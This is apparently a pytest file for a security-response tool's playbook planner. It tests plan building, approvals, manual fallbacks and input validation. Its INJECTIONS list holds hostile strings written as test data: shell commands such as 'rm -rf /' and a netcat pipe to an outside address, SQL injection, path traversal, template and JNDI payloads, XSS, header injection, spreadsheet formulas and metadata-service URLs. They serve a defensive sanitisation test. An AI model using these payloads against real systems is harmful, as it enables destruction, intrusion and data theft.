"""Plans: what would be done now, and what a finding can put into it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import msgspec
import pytest

from cityward import Command, State, Target, TransientError, Unsafe
from playbooks import targets, variables
from playbooks.model import Plan, Planned, Step
from playbooks.plan import plan
from playbooks.targets import target_of
from playbooks.words import FIELDS
from tests.playbooks.world import (
    CAMERA,
    NOW,
    SCANNER,
    Gateway,
    World,
    action,
    actuators,
    finding,
    playbook,
)

HOUR = timedelta(hours=1)
INJECTIONS = (
    "; rm -rf /", "$(reboot)", "`reboot`", "| nc 203.0.113.9 4444", "&& shutdown -h now",
    "> /etc/passwd", "\nrm -rf /", "' OR '1'='1", "'; DROP TABLE findings; --", '" OR ""="',
    "1 UNION SELECT * FROM people --", "../../etc/passwd", "..\\..\\windows\\system32",
    "/etc/cron.d/x; x", "%2e%2e%2fetc%2fpasswd", "x\x00.yml", "{{7*7}}", "{% include '/etc' %}",
    "${7*7}", "${finding.rule.id}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://203.0.113.9/a}",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "x\r\nBcc: all@example.org", "x\nSubject: hello", "x\r\n\r\n<html>", "Set-Cookie: a=b\r\n",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-oProxyCommand=reboot", "--delete",
    "http://169.254.169.254/latest/meta-data", "file:///etc/passwd", "gopher://127.0.0.1:6379/_x",
    "\x1b]0;owned\x07", "\u202egnp.exe", "*", "?*[a]", "(|(uid=*))", "!!python/object:os.system",
    "&anchor *anchor", "%0d%0aLocation: x", "\ufeff$(id)", "＄(reboot)", "10.7.0.5; reboot",
)  # fmt: skip
"""Shell, SQL, paths, templates, markup, headers, spreadsheets, options, URLs, terminals, LDAP."""


def only(made: Plan, name: str = "block") -> Planned:
    return next(one for one in made.actions if one.name == name)


def planned(*steps: Step, world: World | None = None, about: Any = None, **said: Any) -> Plan:
    about = finding() if about is None else about
    return plan(playbook(*steps, **said), about, world or World(), actuators())


# ---- What it says


def test_a_plan_is_the_difference_to_the_world_as_it_is():
    at_gateway = actuators()
    book = playbook(action("block"))

    first = plan(book, finding(), World([CAMERA], needs={SCANNER: ["camera-1"]}), at_gateway)
    block = only(first)
    (command,) = block.commands
    at_gateway["gateway"].apply(command)
    again = only(plan(book, finding(), World(), at_gateway))

    assert command == Command(
        "deny", Target("ipv4_net", SCANNER), "allow", NOW + HOUR, prior={"is_there": False}
    )
    assert (block.action_class, block.until, block.dependants) == ("A1", NOW + HOUR, ("camera-1",))
    assert block.undo == (
        "The device ends it by itself after 1 h; cityward looks, and undoes it if not."
    )
    assert block.outcome == "needs approval"
    assert again.commands == ()


def test_the_hash_is_of_what_would_be_done_not_of_the_moment_nor_the_words():
    first = planned(action("block"))
    later = planned(action("block"), world=World(now=NOW + timedelta(minutes=3)))
    grown = planned(action("block"), about=finding(**{"finding.revision": 9}))
    kept = msgspec.json.decode(msgspec.json.encode(first), type=Plan)

    assert first.hash == later.hash == grown.hash == kept.hash
    other = planned(action("block"), about=finding(**{"source.ip": "203.0.113.8"}))
    longer = action("block")
    longer = msgspec.structs.replace(
        longer, safety=msgspec.structs.replace(longer.safety, time_box=2 * HOUR)
    )
    denied = planned(action("block"), world=World(spoke=()))
    assert len({first.hash, other.hash, planned(longer).hash, denied.hash}) == 4


def test_a_denied_step_says_what_a_person_does_and_goes_on_on_its_failure_path():
    made = planned(
        action("block"), action("more"), world=World(keep={SCANNER: "partner"}, needs={SCANNER: ()})
    )

    assert [one.name for one in made.actions] == ["block", "tell"]
    assert only(made).manual == (
        "cityward does not do this itself:\n"
        "- 203.0.113.7 is on the keep list: partner. Instead: find out what it is, enter or"
        " confirm it in the inventory, or act by hand.\n"
        "By hand: block 203.0.113.7.\n"
        "Take it back by 2026-11-12 04:00 UTC."
    )


def test_in_shadow_what_is_held_back_stops_no_other_step():
    made = planned(action("block"), action("more"), stage="shadow")

    assert [(one.name, one.outcome) for one in made.actions] == [
        ("block", "deny"),
        ("more", "deny"),
    ]


def test_conditions_are_followed_where_they_can_be_known():
    yes, no = action("yes", on_success="end--1"), action("no", on_success="end--1")
    branch = Step(
        id="if--1",
        name="outside",
        type="if-condition",
        when={"finding.severity": ["high", "critical"]},
        on_true="action--yes",
        on_false="action--no",
        on_completion="end--1",
    )
    unknown = msgspec.structs.replace(branch, when={"step.block": "failure"})

    assert [one.name for one in planned(branch, yes, no).actions] == ["yes"]
    low = planned(branch, yes, no, about=finding(**{"finding.severity": "low"}))
    assert [one.name for one in low.actions] == ["no"]
    assert [one.name for one in planned(unknown, yes, no).actions] == ["yes", "no"]
    assert planned(branch, yes, no).variables == {
        "finding.severity": "high",
        "source.ip": SCANNER,
    }


def test_switches_loops_and_parallel_steps_are_planned_once_each():
    steps = [action(name, on_success="end--1") for name in ("a", "b", "c")]
    switch = Step(
        id="switch--1",
        name="which",
        type="switch-condition",
        switch="finding.severity",
        cases={"high": "action--a", "default": "action--b"},
        on_completion="parallel--1",
    )
    both = Step(
        id="parallel--1",
        name="both",
        type="parallel",
        next_steps=("action--a", "while--1"),
        on_completion="end--1",
    )
    loop = Step(
        id="while--1",
        name="again",
        type="while-condition",
        when={"finding.severity": "high"},
        on_true="action--c",
        rounds_max=3,
        on_completion="end--1",
    )

    made = planned(switch, both, loop, *steps)

    assert [one.name for one in made.actions] == ["a", "c"]


def test_a_manual_step_is_a_task_with_the_facts_in_it():
    step = action(
        "call",
        "manual",
        "",
        {},
        action_class="A4",
        args={"text": "Stop what ${finding.source.ip} does to ${finding.ot.point.name}.",
              "role": "process owner"},
    )  # fmt: skip

    made = only(planned(step), "call")

    assert made.manual == f"Stop what {SCANNER} does to (not known)."
    assert made.target == Target("role", "process owner")
    assert made.outcome == "allow"


class Broken(Gateway):
    """Does not answer, or answers nonsense."""

    def __init__(self, error: Exception) -> None:
        super().__init__()
        self.error = error

    def plan(self, verb: str, target: Target, until: Any) -> Iterator[Command]:
        raise self.error

    def probe(self, target: Target) -> State:
        raise self.error


@pytest.mark.parametrize(
    "error",
    [
        TransientError("the gateway does not answer", "gateway"),
        Unsafe("no such verb", "gateway", "Act by hand."),
        RuntimeError("bug"),
    ],
)
def test_an_actuator_that_cannot_plan_denies_and_a_person_sees_target_and_checks(error):
    made = only(plan(playbook(action("block")), finding(), World(), {"gateway": Broken(error)}))

    assert made.outcome == "deny"
    assert made.target == Target("ipv4_net", SCANNER)
    assert [one.number for one in made.checks] == list(range(13))
    assert f"By hand: block {SCANNER}." in made.manual


def test_an_actuator_that_is_not_set_up_and_one_that_wants_too_much_are_no_plan():
    class Greedy(Gateway):
        def plan(self, verb: str, target: Target, until: Any) -> Iterator[Command]:
            while True:
                yield Command(verb, target, undo="allow", until=until)

    book = playbook(action("block"))

    assert only(plan(book, finding(), World(), {})).outcome == "deny"
    assert only(plan(book, finding(), World(), {"gateway": Greedy()})).commands == ()


# ---- What a finding can put into it


def texts(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from texts(key)
            yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)


TOLD = {name: f"${{finding.{name.removeprefix('finding.')}}}" for name in sorted(FIELDS)}


@pytest.mark.parametrize("injection", INJECTIONS)
def test_no_injection_in_any_field_reaches_a_command(injection):
    # Of events, findings, and what the city shares; but that two checks would refuse all else.
    about = dict.fromkeys(FIELDS, injection) | {"finding.mode": "normal", "cw.operator": "op-tram"}
    about["finding.revision"] = 1
    addressed = [
        action(f"t{number}", target={"type": kind, "value": "${finding.source.ip}"})
        for number, kind in enumerate(("ipv4_net", "ipv6_net", "domain_name", "device", "uri",
                                       "mac_addr", "email_addr", "user_name", "file", "x-a:b"))
    ]  # fmt: skip
    flow = action(
        "flow",
        target={
            "type": "ipv4_connection",
            "src_addr": "${finding.source.ip}",
            "dst_addr": "10.7.0.5",
            "protocol": "${finding.network.transport}",
            "dst_port": "${finding.destination.port}",
        },
    )
    chained = [msgspec.structs.replace(one, on_failure=after.id, on_success=after.id)
               for one, after in zip([*addressed, flow], [*addressed[1:], flow, action("mail")],
                                     strict=True)]  # fmt: skip
    mail = action(
        "mail", "mail", "set", {}, action_class="A0",
        args={"text": f"Look: {' '.join(TOLD.values())}", "each": list(TOLD.values())[:300]},
        on_completion="end--1",
    )  # fmt: skip

    made = planned(*chained, mail, about=about)

    assert len(made.actions) == 12
    acting, told = made.actions[:-1], made.actions[-1]
    for one in acting:
        assert one.commands == ()
        assert one.target == targets.NOWHERE
        assert one.outcome == "deny"
    assert told.commands
    commands = json.loads(msgspec.json.encode(told.commands))
    for text in texts(commands):
        assert injection not in text
        assert not set("`$\"'{}<>|&;*?\\\r\n\x00\x1b\u202e") & set(text)
        assert ".." not in text
        assert "://" not in text
        assert not text.startswith(("=", "+", "-", "@"))
    assert not any(
        injection in text for text in texts(json.loads(msgspec.json.encode(made.variables)))
    )


@pytest.mark.parametrize(
    ("value", "type", "spelled"),
    [
        ("203.0.113.7", "ipv4_net", "203.0.113.7"),
        ("203.0.113.0/24", "ipv4_net", "203.0.113.0/24"),
        ("2001:DB8:0:0::7", "ipv6_net", "2001:db8::7"),
        ("::ffff:203.0.113.7", "ipv4_net", "203.0.113.7"),
    ],
)
def test_an_address_has_one_spelling(value, type, spelled):
    assert target_of("ipv4_net", value) == target_of("ipv6_net", value) == Target(type, spelled)


@pytest.mark.parametrize(
    "value",
    ["0.0.0.0/0", "203.0.0.0/16", "203.0.113.1/24", "2001:db8::/32", "127.0.0.1", "::1",
     "169.254.169.254", "fe80::1", "fe80::1%eth0", "224.0.0.1", "ff02::1", "255.255.255.255",
     "0.0.0.0", "::", "0x7f000001", "2130706433", "203.0.113.07", "203.0.113", "", " 203.0.113.7",
     "203.0.113.7\n", "２０３.0.113.7"],
)  # fmt: skip
def test_what_is_no_address_of_one_device_or_a_small_network_is_refused(value):
    with pytest.raises(Unsafe):
        target_of("ipv4_net", value)


@pytest.mark.parametrize(
    ("type", "value"),
    [
        ("domain_name", "localhost"),
        ("domain_name", "a..b.example"),
        ("domain_name", "10.0.0.1"),
        ("domain_name", "-x.example/"),
        ("device", "../plc"),
        ("device", "-rf"),
        ("device", "a b"),
        ("mac_addr", "00:11:22:33:44"),
        ("email_addr", "a@b"),
        ("email_addr", "-x@example.org"),
        ("uri", "file:///etc/passwd"),
        ("uri", "https://user@example.org/"),
        ("ipv4_connection", "{}"),
        ("ipv4_connection", '{"src_addr": "10.0.0.1", "dst_addr": "2001:db8::1"}'),
        ("ipv4_connection", '{"src_addr": "10.0.0.1", "dst_addr": "10.0.0.2", "x": 1}'),
        ("ipv4_connection", '{"src_addr": "10.0.0.1", "dst_addr": "10.0.0.2", "dst_port": 65536}'),
        ("ipv4_connection", "[" * 500),
        ("Device", "a"),
        ("a b", "a"),
    ],
)
def test_a_target_that_is_not_of_its_type_is_refused(type, value):
    with pytest.raises(Unsafe):
        target_of(type, value)


def test_a_connection_is_made_of_its_parts_and_read_back():
    said = {"src_addr": "10.6.0.5", "dst_addr": "10.7.0.5", "dst_port": "502"}

    made = target_of("ipv4_connection", said)

    assert made.value == '{"src_addr":"10.6.0.5","dst_addr":"10.7.0.5","dst_port":502}'
    assert target_of(made.type, made.value) == made
    assert targets.words(made) == "10.6.0.5 to 10.7.0.5, tcp port 502"


def test_a_target_takes_one_whole_value_and_no_part_of_a_text():
    inside = action("block", target={"type": "ipv4_net", "value": "${finding.source.ip}/24"})
    many = finding(**{"source.ip": ["203.0.113.7", "203.0.113.8"]})

    assert only(planned(inside)).target == targets.NOWHERE
    assert only(planned(action("block"), about=many)).target == targets.NOWHERE
    one = only(planned(action("block"), about=finding(**{"source.ip": [SCANNER]})))
    assert one.target == Target("ipv4_net", SCANNER)


def test_numbers_stay_numbers_and_what_is_not_there_is_said():
    about = {"destination.port": 502, "finding.severity": "high", "tags": ["a", "b;c"]}
    args = {
        "port": "${finding.destination.port}",
        "text": "Port ${finding.destination.port} of ${finding.host.name}: ${finding.tags}",
        "list": ["${finding.severity}"],
    }

    assert variables.filled(args, about) == {
        "port": 502,
        "text": "Port 502 of (not known): a, b·c",
        "list": ["high"],
    }


def test_a_long_text_is_cut():
    assert len(variables.harmless("x" * 100_000)) == variables.TEXT_MAX


def test_a_camera_is_planned_by_its_name():
    step = action(
        "block", "broker", "contain", {"type": "device", "value": "camera-1"}, action_class="A2"
    )

    made = only(planned(step, world=World([CAMERA], sizes={"cams": 20})))

    assert [one.verb for one in made.commands] == ["contain"]
    assert made.outcome == "needs approval"
